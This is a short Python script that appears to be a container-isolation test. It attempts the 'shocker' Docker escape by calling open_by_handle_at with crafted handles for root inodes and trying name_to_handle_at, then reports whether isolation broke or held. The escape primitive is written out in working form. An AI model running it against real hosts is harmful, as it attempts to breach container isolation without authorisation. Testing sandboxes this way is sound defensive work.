# Opens the host's root folder by its file handle, as the "shocker" did out of Docker.
import ctypes, struct
from kit import *

for mount in ("/usr", "/etc/ld.so.cache", "/dev/null", "/", "/proc", "."):
    fd = tried(os.open, mount, os.O_RDONLY)
    if fd is None:
        continue
    for inode in (2, 128, 1, 256):
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0))
        got, _ = syscall("open_by_handle_at", fd, handle, 0o200000)
        if got >= 0:
            broke(f"open_by_handle_at opened inode {inode} of {mount}")
    handle, mark = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)), ctypes.c_int()
    if syscall("name_to_handle_at", fd, ctypes.c_char_p(b""), handle, ctypes.byref(mark), 0x1000)[0] == 0:
        broke(f"name_to_handle_at gave a handle of {mount}")
    os.close(fd)
held()
